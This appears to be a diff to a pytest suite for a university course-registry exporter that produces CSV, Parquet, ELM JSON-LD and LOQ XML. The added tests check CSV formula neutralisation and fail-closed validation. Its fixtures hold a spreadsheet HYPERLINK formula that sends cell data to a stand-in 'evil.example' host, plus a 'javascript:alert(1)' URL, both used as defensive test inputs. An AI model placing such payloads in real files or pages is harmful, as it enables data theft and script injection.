@@ -200,7 +200,7 @@ def test_the_mapping_of_a_full_row(registry, tmp_path):
         "startDate": "2024-09-23T00:00:00",
         "endDate": "2025-01-31T00:00:00",
     }
-    assert lo["priceDetail"]["amount"]["value"] == "3500.50"
+    assert lo["priceDetail"]["amount"]["rdf:value"] == {"@value": "3500.50", "@type": "xsd:decimal"}
     assert lo["priceDetail"]["amount"]["unit"]["id"] == f"{elm.CURRENCY_AUTHORITY}/EUR"
     assert lo["priceDetail"]["description"] == {"nl": "inclusief cursusmateriaal"}
     assert lo["defaultLanguage"]["id"] == f"{elm.LANGUAGE_AUTHORITY}/NLD"
@@ -236,7 +236,7 @@ def test_absent_and_derived_values_are_omitted_never_null(registry, tmp_path):
         "type": "PeriodOfTime",
         "endDate": "2025-06-30T00:00:00",
     }
-    assert lo["priceDetail"]["amount"]["value"] == "0.00"  # a stated zero fee is a fee
+    assert lo["priceDetail"]["amount"]["rdf:value"]["@value"] == "0.00"  # a stated zero fee is a fee
     assert [c["id"] for c in spec["language"]] == [
         f"{elm.LANGUAGE_AUTHORITY}/LIN",
         f"{elm.LANGUAGE_AUTHORITY}/FRA",
@@ -463,3 +463,224 @@ def test_the_cli_on_the_real_registry(published_registry, tmp_path, capsys):
     for institution in ("ugent", "uantwerpen", "rug"):
         assert f"elm/{institution}.jsonld" in printed
     assert not (published_registry / "exports").exists()  # the shared registry folder stays untouched
+
+
+# -- spreadsheet-safe CSV, ELM fail-closed, LOQ XML and round trips ------------------------------------------
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "fee_covers": "+1+2",
+    "prerequisites": "-2+3",
+    "faculty": "@SUM(A1:A9)",
+    "campus": "\tGent",
+    "semester_raw": "\r=1",
+    "credits_raw": "'already quoted",
+}
+
+
+def _read_csv_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_formula_cells_are_neutralised_in_csv_and_kept_in_parquet(registry, tmp_path):
+    with duckdb.connect(str(registry / "registry.duckdb")) as con:
+        assignments = ", ".join(f"{column} = ?" for column in FORMULAS)
+        con.execute(
+            f"UPDATE programme SET {assignments} WHERE registry_id = 'ugent:FULL' AND academic_year = 2024",
+            list(FORMULAS.values()),
+        )
+    out = tmp_path / "out"
+    export(registry, out)
+    for table in ("programme", "programme_current"):
+        rows = _read_csv_cells(out / "csv" / f"{table}.csv")
+        header, full = rows[0], next(r for r in rows if r[0] == "ugent:FULL" and "2024" in r)
+        for column, value in FORMULAS.items():
+            assert full[header.index(column)] == "'" + value, column  # one quote: text, never a formula
+        for row in rows:
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+        # Parquet keeps the text as is; the documented CSV decoding gives back exactly the warehouse rows.
+        parquet = pl.read_parquet(out / "parquet" / f"{table}.parquet").filter(
+            (pl.col("registry_id") == "ugent:FULL") & (pl.col("academic_year") == 2024)
+        )
+        assert parquet.select(list(FORMULAS)).row(0) == tuple(FORMULAS.values())
+        round_trip(registry, out, table)
+    # The planted title also stays as is in the ELM dataset (JSON text, no spreadsheet involved).
+    ugent = load(out / "elm" / "ugent.jsonld")
+    assert FORMULAS["title"] in [t for n in opportunities(ugent) for t in n["title"].values()]
+
+
+def test_a_record_the_shapes_refuse_fails_the_export_closed(registry, tmp_path):
+    out = tmp_path / "exports"
+    export(registry, out)
+    before = _tree(out)
+    with duckdb.connect(str(registry / "registry.duckdb")) as con:
+        con.execute("UPDATE programme SET url = 'javascript:alert(1)' WHERE registry_id = 'ugent:FULL'")
+    with pytest.raises(ExportError) as failure:
+        export(registry, out)
+    message = str(failure.value)
+    assert "nothing was replaced" in message
+    # pySHACL's violation, with its focus node and the shape's path: the homepage URL is not http(s).
+    assert re.search(
+        r"elm/ugent\.jsonld: SHACL urn:microcred-registry:learning-opportunity/ugent:FULL/2024/homepage "
+        r"\(path elm:contentUrl\): .*pattern",
+        message,
+    ), message
+    assert _tree(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "exports"]
+
+
+def test_an_xml_the_schema_refuses_fails_the_export_closed(registry, tmp_path, monkeypatch):
+    from warehouse import elm_xml
+
+    out = tmp_path / "exports"
+    export(registry, out)
+    before = _tree(out)
+    monkeypatch.setattr(elm_xml, "ISCED_F_UNKNOWN", "http://data.europa.eu/snb/isced-f/not-a-field")
+    with pytest.raises(ExportError, match=r"loq/ugent\.xml: line \d+ \(urn:microcred-registry:.*ISCEDFCode"):
+        export(registry, out)
+    assert _tree(out) == before
+
+
+def _sql_current(data_dir: Path) -> list[dict]:
+    with duckdb.connect(str(data_dir / "registry.duckdb"), read_only=True) as con:
+        return (
+            con.sql(
+                "SELECT institution_id, registry_id, academic_year, title, title_language, url, credits_ects, languages, "
+                "learning_outcomes FROM programme_current ORDER BY registry_id"
+            )
+            .pl()
+            .to_dicts()
+        )
+
+
+def _expected_id(row: dict) -> str:
+    """The documented id form: {base}learning-opportunity/{registry id, percent-encoded but ':'}/{year}."""
+    from urllib.parse import quote
+
+    return f"urn:microcred-registry:learning-opportunity/{quote(row['registry_id'], safe=':')}/{row['academic_year']}"
+
+
+def _expected(row: dict) -> tuple:
+    credits = row["credits_ects"]
+    languages = sorted(elm.ISO_639_1_TO_EU[code] for code in row["languages"] or [])
+    return (row["title"], credits if credits and credits > 0 else None, languages)
+
+
+SPARQL = """
+PREFIX elm: <http://data.europa.eu/snb/model/elm/>
+PREFIX dc: <http://purl.org/dc/terms/>
+PREFIX adms: <http://www.w3.org/ns/adms#>
+PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
+SELECT ?lo ?notation ?title ?point (GROUP_CONCAT(DISTINCT STR(?language); separator=" ") AS ?languages)
+WHERE {
+  ?lo a elm:LearningOpportunity ; dc:title ?title ; adms:identifier/skos:notation ?notation ;
+      elm:learningAchievementSpecification ?spec .
+  ?spec a elm:LearningAchievementSpecification .
+  OPTIONAL { ?spec elm:creditPoint/elm:point ?point }
+  OPTIONAL { ?spec dc:language ?language }
+} GROUP BY ?lo ?notation ?title ?point
+"""
+
+
+def _check_skipped(skipped: list[dict], rows: dict[str, dict]) -> None:
+    """Every row left out really lacks what its reason says (read from the warehouse, not the exporter)."""
+    for entry in skipped:
+        row = rows[entry["registry_id"]]
+        reason = entry["reason"]
+        if reason.startswith("no title"):
+            assert not (row["title"] or "").strip()
+        elif reason.startswith("no page URL"):
+            assert not (row["url"] or "").strip()
+        elif reason.startswith("no page or instruction language"):
+            assert row["title_language"] is None and not row["languages"]
+        elif reason.startswith("no teaching language"):
+            assert not row["languages"]
+        elif reason.startswith("no learning outcome"):
+            assert not [o for o in row["learning_outcomes"] or [] if o and o.strip()]
+        else:
+            raise AssertionError(f"unexpected reason {reason!r}")
+
+
+@pytest.mark.slow
+def test_the_real_json_ld_reads_back_as_the_current_offer(published_registry, published_export):
+    from warehouse import elm_rdf
+
+    manifest = load(published_export / "manifest.json")
+    current = _sql_current(published_registry)
+    typed = 0
+    for institution, summary in manifest["elm"]["datasets"].items():
+        rows = {r["registry_id"]: r for r in current if r["institution_id"] == institution}
+        _check_skipped(summary["skipped"], rows)
+        doc = load(published_export / "elm" / f"{institution}.jsonld")
+        assert elm_rdf.shacl_violations(doc) == []  # pySHACL, LOQ + MDR shapes: 0 violations
+        graph = elm_rdf.to_graph(doc)
+        found = {}
+        for lo, notation, title, point, languages in graph.query(SPARQL):
+            found[str(notation)] = (str(lo), (str(title), title.language), point, languages)
+        kept = {k: r for k, r in rows.items() if k not in {s["registry_id"] for s in summary["skipped"]}}
+        assert set(found) == set(kept) and len(kept) == len(elm_rdf.learning_opportunities(graph))
+        for registry_id, row in kept.items():
+            lo, (title, tag), point, languages = found[registry_id]
+            assert lo == _expected_id(row)
+            assert tag == (row["title_language"] or "und")
+            codes = sorted(str(languages).split()) if languages else []
+            got = (title, float(point) if point is not None else None, [c.rsplit("/", 1)[1] for c in codes])
+            assert got == _expected(row), registry_id
+        typed += len(kept)
+    assert typed >= len(current) - 3 and typed > 100
+
+
+@pytest.mark.slow
+def test_the_real_loq_xml_is_valid_and_reads_back_as_the_current_offer(published_registry, published_export):
+    import xmlschema
+    from lxml import etree
+
+    from warehouse import elm_xml
+
+    manifest = load(published_export / "manifest.json")
+    current = _sql_current(published_registry)
+    validator = xmlschema.XMLSchema(str(Path(str(elm_xml.REFERENCE)) / elm_xml.SCHEMA))
+    ns = {"loq": elm_xml.LOQ_NS, "skos": elm_xml.SKOS_NS}
+    written = 0
+    for institution, summary in manifest["elm"]["datasets"].items():
+        path = published_export / summary["xml_file"]
+        assert list(validator.iter_errors(str(path))) == []  # a second, independent XSD validator
+        rows = {r["registry_id"]: r for r in current if r["institution_id"] == institution}
+        _check_skipped(summary["xml_skipped"], rows)
+        tree = etree.parse(str(path))
+        found = {}
+        for lo in tree.xpath(
+            "/loq:Courses/loq:learningOpportunityReferences/loq:learningOpportunity", namespaces=ns
+        ):
+            spec_id = lo.xpath("loq:learningAchievementSpecification/@idref", namespaces=ns)[0]
+            (spec,) = tree.xpath("//loq:learningAchievementSpecification[@id=$id]", id=spec_id, namespaces=ns)
+            (title,) = lo.xpath("loq:title", namespaces=ns)
+            points = spec.xpath("loq:creditPoint/loq:point/text()", namespaces=ns)
+            languages = sorted(u.rsplit("/", 1)[1] for u in spec.xpath("loq:language/@uri", namespaces=ns))
+            notation = lo.xpath("loq:identifier/skos:notation/text()", namespaces=ns)[0]
+            found[notation] = (
+                lo.get("id"),
+                title.get("language"),
+                (title.text, float(points[0]) if points else None, languages),
+            )
+        kept = {k: r for k, r in rows.items() if k not in {s["registry_id"] for s in summary["xml_skipped"]}}
+        assert (
+            set(found)
+            == set(kept)
+            == {k for k in rows if k not in {s["registry_id"] for s in summary["xml_skipped"]}}
+        )
+        for registry_id, row in kept.items():
+            lo_id, tag, values = found[registry_id]
+            assert lo_id == _expected_id(row) and tag == (row["title_language"] or "und")
+            assert values == _expected(row), registry_id
+        written += len(kept)
+    assert written > 100
+
+
+@pytest.mark.slow
+def test_no_csv_cell_of_the_real_export_starts_a_formula(published_export):
+    for path in (published_export / "csv").iterdir():
+        for row in _read_csv_cells(path):
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)
